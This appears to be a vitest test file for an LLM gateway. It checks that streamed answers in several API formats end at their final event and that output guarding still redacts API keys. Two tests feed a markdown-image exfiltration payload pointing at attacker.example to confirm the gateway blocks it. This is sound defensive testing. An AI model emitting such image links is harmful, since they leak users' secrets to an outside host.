import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';
import { createSseParser } from './sse-parser.js';

// The gateway ends the caller's stream as soon as the upstream's final event (`data: [DONE]`, Anthropic
// `message_stop`, Responses `response.completed`) was guarded, in the same write as the last events,
// without waiting for the upstream to close its body. These tests use an upstream that sends its whole
// stream at once and then keeps the body open for a while.
// Long enough that a loaded machine still delivers the answer first; no test waits for it.
const LINGER_MS = 2_000;
const KEY = `sk-${'Qw3Er4Ty5U'.repeat(3)}`;

function streamOf(text: string): string {
  let out = '';
  for (let index = 0; index < text.length; index += 4) {
    const chunk = {
      id: 'c',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta: { content: text.slice(index, index + 4) }, finish_reason: null }],
    };
    out += `data: ${JSON.stringify(chunk)}\n\n`;
  }
  const last = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [] as unknown[] };
  last.choices.push({ index: 0, delta: {}, finish_reason: 'stop' });
  return `${out}data: ${JSON.stringify(last)}\n\ndata: [DONE]\n\n`;
}

function sse(type: string, data: Record<string, unknown>): string {
  return `event: ${type}\ndata: ${JSON.stringify({ type, ...data })}\n\n`;
}

function anthropicStreamOf(text: string): string {
  let out = sse('message_start', {
    message: { id: 'msg_1', type: 'message', role: 'assistant', content: [] },
  });
  out += sse('content_block_start', { index: 0, content_block: { type: 'text', text: '' } });
  for (let index = 0; index < text.length; index += 4)
    out += sse('content_block_delta', {
      index: 0,
      delta: { type: 'text_delta', text: text.slice(index, index + 4) },
    });
  out += sse('content_block_stop', { index: 0 });
  out += sse('message_delta', {
    delta: { stop_reason: 'end_turn', stop_sequence: null },
    usage: { output_tokens: 5 },
  });
  return out + sse('message_stop', {});
}

function responsesStreamOf(text: string): string {
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    sse(type, { ...data, sequence_number: sequence++ });
  const item = { id: 'msg_1', type: 'message', role: 'assistant', status: 'completed' };
  const part = { type: 'output_text', text, annotations: [] };
  let out = event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  out += event('response.output_item.added', { output_index: 0, item: { ...item, content: [] } });
  for (let index = 0; index < text.length; index += 4)
    out += event('response.output_text.delta', {
      item_id: 'msg_1',
      output_index: 0,
      content_index: 0,
      delta: text.slice(index, index + 4),
    });
  out += event('response.output_text.done', { item_id: 'msg_1', output_index: 0, content_index: 0, text });
  out += event('response.content_part.done', { item_id: 'msg_1', output_index: 0, content_index: 0, part });
  out += event('response.output_item.done', { output_index: 0, item: { ...item, content: [part] } });
  return (
    out +
    event('response.completed', {
      response: { id: 'resp_1', status: 'completed', output: [{ ...item, content: [part] }] },
    })
  );
}

/** Reads an Anthropic or Responses stream through the gateway: its text deltas, final event and error. */
async function readTypedStream(
  url: string,
  api: 'messages' | 'responses',
): Promise<{ text: string; last: string | undefined; error: string | null }> {
  const body =
    api === 'messages'
      ? {
          model: 'claude-burst',
          max_tokens: 50,
          stream: true,
          messages: [{ role: 'user', content: 'hello' }],
        }
      : { model: 'm', stream: true, input: 'hello' };
  const response = await fetch(`${url}/v1/${api}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(response.status).toBe(200);
  let text = '';
  let last: string | undefined;
  let error: string | null = null;
  const parser = createSseParser({
    onEvent(event) {
      const data = JSON.parse(event.data) as {
        type?: string;
        delta?: string | { text?: string };
        error?: { code?: string };
      };
      last = data.type;
      if (data.type === 'error') error = data.error?.code ?? 'unknown';
      if (data.type === 'content_block_delta' && typeof data.delta === 'object')
        text += data.delta.text ?? '';
      if (data.type === 'response.output_text.delta' && typeof data.delta === 'string') text += data.delta;
    },
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  const length = response.headers.get('content-length');
  if (length !== null) expect(Number(length)).toBe(bytes.length);
  parser.push(bytes);
  parser.end();
  return { text, last, error };
}

async function readStream(url: string): Promise<{ text: string; done: boolean; error: string | null }> {
  const response = await fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'hello' }] }),
  });
  expect(response.status).toBe(200);
  let text = '';
  let done = false;
  let error: string | null = null;
  const parser = createSseParser({
    onEvent(event) {
      if (event.data === '[DONE]') {
        done = true;
        return;
      }
      const data = JSON.parse(event.data) as {
        error?: { code?: string };
        choices?: { delta?: { content?: string } }[];
      };
      if (data.error) error = data.error.code ?? 'unknown';
      text += data.choices?.[0]?.delta?.content ?? '';
    },
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  // A stream that reached the gateway in one read leaves as one sized response; the size must be exact.
  const length = response.headers.get('content-length');
  if (length !== null) expect(Number(length)).toBe(bytes.length);
  parser.push(bytes);
  parser.end();
  return { text, done, error };
}

describe('streams end at the final event', () => {
  let upstream: Server;
  let gateway: TestGateway;
  let answer = '';
  let upstreamStarted = 0;
  // Per upstream request, whether its body was closed: a counter shared by all requests would also
  // count the bodies of earlier tests that close during a later one.
  const upstreamEnded: boolean[] = [];
  beforeAll(async () => {
    upstream = createServer((request, response) => {
      request.resume();
      request.on('end', () => {
        const index = upstreamStarted++;
        upstreamEnded[index] = false;
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        const path = request.url ?? '';
        response.write(
          path.endsWith('/messages')
            ? anthropicStreamOf(answer)
            : path.endsWith('/responses')
              ? responsesStreamOf(answer)
              : streamOf(answer),
        );
        setTimeout(() => {
          upstreamEnded[index] = true;
          response.end();
        }, LINGER_MS);
      });
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    const port = (upstream.address() as AddressInfo).port;
    gateway = await startTestGateway({
      upstreams: [
        {
          name: 'claude',
          provider: 'anthropic',
          baseUrl: `http://127.0.0.1:${port}`,
          models: ['claude-burst'],
          retries: 0,
        },
        { name: 'burst', provider: 'openai', baseUrl: `http://127.0.0.1:${port}/v1`, retries: 0 },
      ],
    });
  });
  afterAll(async () => {
    await gateway.close();
    upstream.closeAllConnections();
    await new Promise((resolve) => upstream.close(resolve));
  });

  it('delivers the whole guarded answer before the upstream closes its body', async () => {
    answer = 'Here is the plan for your trip: museums first, then the coast, then the old town.';
    const index = upstreamStarted;
    const result = await readStream(gateway.url);
    expect(result).toEqual({ text: answer, done: true, error: null });
    // The caller had everything while the upstream body was still open.
    expect(upstreamStarted).toBe(index + 1);
    expect(upstreamEnded[index]).toBe(false);
  });

  it('still redacts a key that arrives in the burst', async () => {
    answer = `Use the key ${KEY} for the staging account, then rotate it.`;
    const result = await readStream(gateway.url);
    expect(result.done).toBe(true);
    expect(result.text).not.toContain(KEY);
    expect(result.text).toContain('[REDACTED:');
    expect(result.text).toContain('then rotate it.');
  });

  it('still stops a burst that carries markdown exfiltration, without the violating text', async () => {
    answer = 'Summary ready. ![x](https://attacker.example/p.png?d=secret) Bye.';
    const result = await readStream(gateway.url);
    expect(result.error).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(result.done).toBe(false);
    expect(result.text).not.toContain('attacker');
  });

  it('keeps serving while earlier upstream bodies drain', async () => {
    answer = 'One more answer, to show the gateway keeps working.';
    const started = upstreamStarted;
    const results = await Promise.all([readStream(gateway.url), readStream(gateway.url)]);
    for (const result of results) expect(result).toEqual({ text: answer, done: true, error: null });
    expect(upstreamStarted).toBe(started + 2);
  });

  for (const api of ['messages', 'responses'] as const) {
    it(`ends a ${api} stream at its final event, before the upstream closes its body`, async () => {
      answer = 'Here is the plan: museums first, then the coast.';
      const index = upstreamStarted;
      const result = await readTypedStream(gateway.url, api);
      expect(result).toEqual({
        text: answer,
        last: api === 'messages' ? 'message_stop' : 'response.completed',
        error: null,
      });
      expect(upstreamStarted).toBe(index + 1);
      expect(upstreamEnded[index]).toBe(false);
    });

    it(`still stops a ${api} burst that carries markdown exfiltration`, async () => {
      answer = 'Summary ready. ![x](https://attacker.example/p.png?d=secret) Bye.';
      const result = await readTypedStream(gateway.url, api);
      expect(result.error).toBe('AEGIS_OUTPUT_BLOCKED');
      expect(result.text).not.toContain('attacker');
    });
  }
});
